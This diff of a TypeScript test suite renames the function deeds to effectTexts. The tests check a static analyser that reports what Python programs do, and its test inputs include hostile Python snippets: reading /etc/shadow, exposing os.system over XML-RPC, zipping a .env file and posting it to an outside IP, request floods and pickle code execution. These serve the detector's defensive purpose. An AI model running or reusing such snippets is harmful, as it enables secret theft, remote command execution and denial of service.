@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { deeds } from "./python-deeds.ts";
+import { effectTexts } from "./python-effect-texts.ts";
 import { readPython } from "./read.ts";
 
 describe("arguments of which it is not known how many there are", () => {
@@ -11,11 +11,11 @@ describe("arguments of which it is not known how many there are", () => {
     ["read notes/a", "import os\nparts = ['notes', 'a']\nopen(os.path.join(*parts))"],
     ["execute from input", "import os, sys\nos.system('{} {}'.format(*sys.argv))"],
   ])("%s: %j", (deed, program) => {
-    expect(deeds(program)).toContain(deed);
+    expect(effectTexts(program)).toContain(deed);
   });
 
   it("lists are turned around without knowing them", () => {
-    expect(deeds("def turn(rows): return [sum(row) for row in zip(*rows)]")).toEqual([]);
+    expect(effectTexts("def turn(rows): return [sum(row) for row in zip(*rows)]")).toEqual([]);
   });
 
   const callees = fc.constantFrom(
@@ -69,7 +69,7 @@ describe("where files lie that are found", () => {
     ["read **/b.txt", "from importlib import resources\nresources.files('a').joinpath('b.txt').read_text()"],
     ["write /tmp/*/a", "def test_it(tmp_path):\n    (tmp_path / 'a').write_text('b')"],
   ])("%s: %j", (deed, program) => {
-    expect(deeds(program)).toContain(deed);
+    expect(effectTexts(program)).toContain(deed);
   });
 });
 
@@ -95,11 +95,13 @@ describe("the program's own file", () => {
   });
 
   it("its directory is taken for the one in which it was started", () => {
-    expect(deeds("import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nopen('a')")).toEqual(["read a"]);
+    expect(effectTexts("import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nopen('a')")).toEqual([
+      "read a",
+    ]);
   });
 
   it("a path has as many directories around it as it has", () => {
-    expect(deeds("from pathlib import Path\nopen(Path('/usr/lib/x/y').parents[3] / 'etc/shadow')")).toEqual([
+    expect(effectTexts("from pathlib import Path\nopen(Path('/usr/lib/x/y').parents[3] / 'etc/shadow')")).toEqual([
       "read /etc/shadow",
     ]);
   });
@@ -117,11 +119,11 @@ describe("the environment and the arguments", () => {
     [["read a"], "import sys\nsys.argv = ['p', 'a']\nopen(sys.argv[1])"],
     [["read ?", "read a"], "import sys\nif x: sys.argv = ['p', 'a']\nopen(sys.argv[1])"],
   ])("%j: %j", (expected, program) => {
-    expect(deeds(program).toSorted()).toEqual(expected.toSorted());
+    expect(effectTexts(program).toSorted()).toEqual(expected.toSorted());
   });
 
   it("a command around a program may set what it falls back from", () => {
-    expect(deeds(`import os\nos.system("python -c 'import os; open(os.getenv(\\"F\\", \\"a\\"))'")`)).toContain(
+    expect(effectTexts(`import os\nos.system("python -c 'import os; open(os.getenv(\\"F\\", \\"a\\"))'")`)).toContain(
       "read ?",
     );
   });
@@ -142,7 +144,7 @@ describe("objects of the program's own", () => {
       "import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    def __post_init__(self): os.remove(self.p)\nA('notes/a')",
     ],
   ])("%s: %j", (deed, program) => {
-    expect(deeds(program)).toContain(deed);
+    expect(effectTexts(program)).toContain(deed);
   });
 });
 
@@ -172,7 +174,7 @@ describe("who is at the other end", () => {
       "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('0.0.0.0', 9))\ns.register_function(os.system, 'run')",
     ],
   ])("%j: %j", (expected, program) => {
-    expect([...new Set(deeds(program))].toSorted()).toEqual(expected.toSorted());
+    expect([...new Set(effectTexts(program))].toSorted()).toEqual(expected.toSorted());
   });
 });
 
@@ -188,7 +190,7 @@ describe("how much is sent, and how often", () => {
     "text = ''\nfor i in range(10000): text = text + 'a'\ndata = text.encode()",
     "text = 'a'\nwhile len(text) < 1000000: text += text\ndata = text.encode()",
   ])("too much: %j", (made) => {
-    expect(deeds(send(made))).toContain("exhaust network");
+    expect(effectTexts(send(made))).toContain("exhaust network");
   });
 
   it.each([
@@ -196,7 +198,7 @@ describe("how much is sent, and how often", () => {
     "data = os.urandom(32)",
     "text = ''\nwhile len(text) < 80: text += 'a'\ndata = text.encode()",
   ])("not too much: %j", (made) => {
-    expect(deeds(send(made))).not.toContain("exhaust network");
+    expect(effectTexts(send(made))).not.toContain("exhaust network");
   });
 
   it.each([
@@ -205,7 +207,7 @@ describe("how much is sent, and how often", () => {
     [false, "for page in range(200): requests.get('http://x.example/', params={'page': page})"],
     [false, "while page < 100000:\n    requests.get('http://x.example/')\n    time.sleep(1)"],
   ])("a flood: %s: %j", (flood, program) => {
-    expect(deeds(`import requests, time\n${program}`).includes("exhaust network")).toBe(flood);
+    expect(effectTexts(`import requests, time\n${program}`).includes("exhaust network")).toBe(flood);
   });
 });
 
@@ -214,7 +216,7 @@ describe("lists of words", () => {
     ["delete notes", "cmd = ['rm', '-r', 'notes']\nif dry: cmd = ['echo'] + cmd\nsubprocess.run(cmd)"],
     ["delete ", "cmd = ['git', 'clean', '-fd']\nif dry: cmd = cmd + ['-n']\nsubprocess.run(cmd)"],
   ])("what is added on one way is not there on the other: %s: %j", (deed, program) => {
-    expect(deeds(`import subprocess\n${program}`)).toContain(deed);
+    expect(effectTexts(`import subprocess\n${program}`)).toContain(deed);
   });
 });
 
@@ -225,7 +227,7 @@ describe("processes that were looked for or started", () => {
     [true, "import os\nos.killpg(os.getpgid(4321), 15)"],
     [false, "import os, subprocess\np = subprocess.Popen(['make'])\nos.killpg(os.getpgid(p.pid), 15)"],
   ])("ends others: %s: %j", (ends, program) => {
-    expect(deeds(program).includes("signal")).toBe(ends);
+    expect(effectTexts(program).includes("signal")).toBe(ends);
   });
 });
 
@@ -237,11 +239,11 @@ describe("loaders that are told what to make", () => {
       "import configparser, base64\nconfigparser.ConfigParser().read_string(base64.b64decode(x).decode())",
     ],
   ])("%s: %j", (deed, program) => {
-    expect(deeds(program)).toContain(deed);
+    expect(effectTexts(program)).toContain(deed);
   });
 
   it("a safe one runs nothing", () => {
-    expect(deeds("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
+    expect(effectTexts("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
   });
 });
 
@@ -250,21 +252,21 @@ describe("functions that nothing calls", () => {
     const program =
       "import unittest\ndef save(path): open(path, 'w')\n" +
       "class SaveTest(unittest.TestCase):\n  def test_save(self): save('out/a')\nunittest.main()";
-    expect(deeds(program)).toEqual(["write out/a"]);
+    expect(effectTexts(program)).toEqual(["write out/a"]);
   });
 
   it("so do tests that a framework gives something", () => {
     const program =
       "from unittest import mock\ndef save(path): open(path, 'w')\n" +
       "@mock.patch('find')\ndef check(find): save('out/a')\ndef test_save(found): save('out/b')";
-    expect(deeds(program)).toEqual(["write out/a", "write out/b"]);
+    expect(effectTexts(program)).toEqual(["write out/a", "write out/b"]);
   });
 
   it("class methods have their class", () => {
     const program = "class Notes:\n  path = 'notes.txt'\n  @classmethod\n  def load(cls): return open(cls.path)\n";
-    expect(deeds(program)).toEqual(["read notes.txt"]);
-    expect(deeds(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
-    expect(deeds(`${program}Notes().load()`)).toEqual(["read notes.txt"]);
+    expect(effectTexts(program)).toEqual(["read notes.txt"]);
+    expect(effectTexts(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
+    expect(effectTexts(`${program}Notes().load()`)).toEqual(["read notes.txt"]);
   });
 });
 
@@ -280,7 +282,7 @@ describe("what a program packs and unpacks itself", () => {
     [`import pickle\nclass A: pass\nA.__reduce__ = find()\n${twice}`, ["execute code", "execute from unknown"]],
     ["import pickle\nclass A: pass\npickle.loads(pickle.dumps(find()))", ["execute code", "execute from unknown"]],
   ])("%j: %j", (program, expected) => {
-    expect(deeds(program)).toEqual(expected);
+    expect(effectTexts(program)).toEqual(expected);
   });
 });
 
@@ -293,18 +295,18 @@ describe("archives and workbooks", () => {
       ["write a.xlsx", "write a.xlsx"],
     ],
   ])("%j: %j", (program, expected) => {
-    expect(deeds(program)).toEqual(expected);
+    expect(effectTexts(program)).toEqual(expected);
   });
 
   it("what was put into one in memory can be sent", () => {
     const program =
       "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n" +
       "z.writestr('a', open('.env').read())\nrequests.post('http://192.0.2.1', data=b.getvalue())";
-    expect(deeds(program)).toContain("network from file .env");
+    expect(effectTexts(program)).toContain("network from file .env");
   });
 });
 
 it("patterns of classes are read, and what guards them", () => {
   const program = "import os\nmatch x:\n  case int() | C() as v if os.remove('a'):\n    os.remove('b')";
-  expect(deeds(program)).toEqual(["delete a", "delete b"]);
+  expect(effectTexts(program)).toEqual(["delete a", "delete b"]);
 });
